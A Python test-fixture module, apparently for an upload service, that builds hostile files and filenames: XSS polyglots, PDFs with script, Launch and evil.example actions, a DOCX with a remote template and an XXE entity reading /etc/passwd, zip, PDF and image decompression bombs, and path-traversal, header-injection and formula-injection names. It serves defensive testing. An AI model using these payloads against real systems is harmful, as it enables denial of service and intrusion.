"""Files that are meant to do harm, and names that are: made in memory, for every test that sends them."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image, PngImagePlugin

from tests.harness import samples
from tests.harness.scanners import EICAR
from tests.uploads import kinds

SCRIPT = b"<script>alert(document.domain)</script>"
_HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
_ZEROS = bytes(2**20)

Made = list[tuple[str, Callable[[], bytes]]]


def hostile_files() -> list[tuple[str, bytes]]:
    """Return files that would do harm where somebody ran them or showed them as a page, each under its name."""
    return [(name, make()) for name, make in _hostile()]


def bombs() -> Made:
    """Return what makes small files that unfold, repeat or circle without end, each under its name; that takes long."""
    return _bombs()


NAMES = (
    "brief\x00.pdf",
    "brief\r\nBcc: x@evil.example\r\n.pdf",
    "brief\u202efdp.exe",
    "\u2066\u2067\u200f.pdf",
    "x" * 300 + ".pdf",
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\brief.pdf",
    "/etc/passwd",
    "C:brief.pdf",
    "CON.pdf",
    "nul",
    "COM1.pdf",
    ".htaccess",
    "...",
    " ",
    '"; filename="x.html',
    "brief.pdf;x=y",
    "%00%2e%2e%2f.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "=?utf-8?q?brief?=",
    "'+alert(1)+'.pdf",
    "=HYPERLINK(1).pdf",
    "🏠💧.pdf",
    "👩\u200d👩\u200d👧.pdf",
    "e" + "\u0301" * 200 + ".pdf",
    "\ud800.pdf",
)
"""Names that are meant to be more than a name."""


def _hostile() -> Made:
    return [
        ("drawing.svg", samples.svg),
        ("svg-as-photo.jpg", samples.svg),
        ("page.html", lambda: _HTML),
        ("page-as-letter.pdf", samples.html_as_pdf),
        ("page-that-says-pdf.pdf", lambda: _HTML + b"%PDF-1.7\n%%EOF"),
        ("page.mht", lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML),
        ("eicar.pdf", lambda: EICAR),
        ("program.exe", lambda: b"MZ" + bytes(600)),
        ("macros.docx", samples.macro_docx),
        ("letter-and-archive.pdf", lambda: samples.pdf() + samples.zip_of({"x.html": _HTML})),
        ("archive-and-letter.docx", lambda: samples.docx() + samples.pdf()),
        ("photo-and-page.jpg", lambda: samples.jpeg() + _HTML),
        ("page-in-comment.jpg", _page_in_comment),
        ("photo-and-archive.jpg", lambda: samples.jpeg() + samples.zip_of({"Main.class": b"\xca\xfe\xba\xbe"})),
        ("gif-and-archive.gif", lambda: kinds.gif() + samples.zip_of({"Main.class": b"\xca\xfe\xba\xbe"})),
        ("script-in-text.png", _script_in_text),
        ("script.pdf", lambda: _pdf_that("JavaScript", JS="app.alert(1)")),
        ("launch.pdf", lambda: _pdf_that("Launch", F="cmd.exe")),
        ("address.pdf", lambda: _pdf_that("URI", URI="http://evil.example/")),
        ("program-inside.pdf", _pdf_with_a_file),
        ("template-elsewhere.docx", _docx_with_a_template_elsewhere),
        ("entities.docx", _docx_with_entities),
    ]


def _bombs() -> Made:
    return [
        ("zeros.docx", samples.zip_bomb_docx),
        ("spoofed.docx", samples.spoofed_docx),
        ("nested.docx", _nested),
        ("overlapping.docx", _overlapping),
        ("entries.docx", lambda: samples.docx({f"x{number}": b"" for number in range(6_000)})),
        ("table.pdf", lambda: samples.pdf_bomb(3_000)),
        ("nested.pdf", lambda: _pdf(b"[" * 500_000 + b"]" * 500_000)),
        ("dictionaries.pdf", lambda: _pdf(b"<</A" * 200_000 + b" 1" + b">>" * 200_000)),
        ("pages-that-circle.pdf", lambda: _pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>", b"[3 0 R]")),
        ("pages-without-end.pdf", lambda: _pdf(b"null", b"[" + b"3 0 R " * 500_000 + b"]")),
        ("tables-that-circle.pdf", lambda: _pdf(b"null", prev=True)),
        ("objects.pdf", _packed_objects),
        ("wide.png", lambda: _png_header(100_000, 100_000)),
        ("twenty-thousand.png", samples.pixel_bomb),
        ("text.png", _text_bomb),
        ("frames.png", _animated),
        ("wide.jpg", lambda: samples.jpeg().replace(struct.pack(">HH", 40, 60), struct.pack(">HH", 65_500, 65_500))),
        ("scans.jpg", _many_scans),
        *kinds.bombs(),
    ]


def _page_in_comment() -> bytes:
    target = BytesIO()
    Image.new("RGB", (60, 40), "red").save(target, "JPEG", comment=_HTML)
    return target.getvalue()


def _script_in_text() -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", SCRIPT.decode())
    target = BytesIO()
    Image.new("RGB", (60, 40), "red").save(target, "PNG", pnginfo=said)
    return target.getvalue()


def _pdf_that(does: str, **what: str) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        action = {f"/{name}": pikepdf.String(value) for name, value in what.items()}
        document.Root.OpenAction = pikepdf.Dictionary({"/S": pikepdf.Name(f"/{does}"), **action})
        return _saved(document)


def _pdf_with_a_file() -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["setup.exe"] = b"MZ" + bytes(600)
        return _saved(document)


def _docx_with_a_template_elsewhere() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="r9" Type="{kind}" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return samples.docx({"word/_rels/settings.xml.rels": f'<Relationships xmlns="{space}">{relation}</Relationships>'})


def _docx_with_entities() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    return samples.docx(
        {"word/document.xml": f'<!DOCTYPE d [{lines}<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&l9;&f;</d>'}
    )


def _nested() -> bytes:
    inner = samples.zip_of({"0.bin": _ZEROS * 50})
    for level in range(5):
        inner = samples.zip_of({f"{level}-{copy}.zip": inner for copy in range(10)})
    return samples.docx({"word/media/inner.zip": inner})


def _overlapping() -> bytes:
    """Four thousand entries in the directory that all unfold the same megabyte of the file."""
    whole = samples.docx({"word/media/0000.bin": _ZEROS})
    end = whole.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    entry = whole[whole.rindex(b"PK\x01\x02", 0, end) : end]
    more = b"".join(entry.replace(b"0000.bin", f"{number:04}.bin".encode()) for number in range(1, 4_000))
    directory = whole[start:end] + more
    count = struct.unpack("<H", whole[end + 10 : end + 12])[0] + 3_999
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)
    return whole[:start] + directory + tail


def _pdf(third: bytes, kids: bytes = b"[]", prev: bool = False) -> bytes:
    """A PDF written by hand, whose pages are these, with this as its third object."""
    objects = [b"<</Type/Catalog/Pages 2 0 R/X 3 0 R>>", b"<</Type/Pages/Count 1/Kids" + kids + b">>", third]
    whole, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(whole)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    again = b"/Prev %d" % start if prev else b""
    return whole + b"xref\n0 4\n0000000000 65535 f \n%strailer\n<</Size 4/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        rows,
        again,
        start,
    )


def _packed_objects() -> bytes:
    """A PDF whose pages stand in a stream of objects that unfolds to 300 megabytes."""
    packer = zlib.compressobj(9)
    stream = packer.compress(b"2 0 " + b" " * 60) + b"".join(packer.compress(b" " * 2**20) for _ in range(300))
    stream += packer.flush()
    whole = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    place = len(whole)
    whole += b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(stream)
    whole += stream + b"\nendstream\nendobj\n"
    start = len(whole)
    row = struct.Struct(">BIH")
    rows = b"".join(row.pack(*each) for each in ((0, 0, 0), (1, 9, 0), (2, 3, 0), (1, place, 0), (1, start, 0)))
    whole += b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)
    return whole + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _png_header(width: int, height: int) -> bytes:
    """A PNG that claims this size and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _text_bomb() -> bytes:
    """A small picture with words beside it that unfold to 200 megabytes."""
    packer = zlib.compressobj(9)
    words = b"".join(packer.compress(_ZEROS) for _ in range(200)) + packer.flush()
    picture = samples.png()
    head = picture.index(b"IDAT") - 4
    return picture[:head] + _chunk(b"zTXt", b"Comment\0\0" + words) + picture[head:]


def _animated() -> bytes:
    target = BytesIO()
    frames = [Image.new("RGB", (300, 300), (number, 0, 0)) for number in range(100)]
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


def _many_scans() -> bytes:
    """A JPEG of 25 megapixels whose last pass is repeated ten thousand times: each costs time, none shows anything."""
    target = BytesIO()
    Image.new("L", (5000, 5000), 128).save(target, "JPEG", progressive=True, quality=50)
    whole = target.getvalue()
    last = whole.rindex(b"\xff\xda")
    scan, end = whole[last:-2], whole[-2:]
    return whole[:-2] + scan * min(10_000, 9_000_000 // len(scan)) + end


def _saved(document: pikepdf.Pdf) -> bytes:
    target = BytesIO()
    document.save(target)
    return target.getvalue()
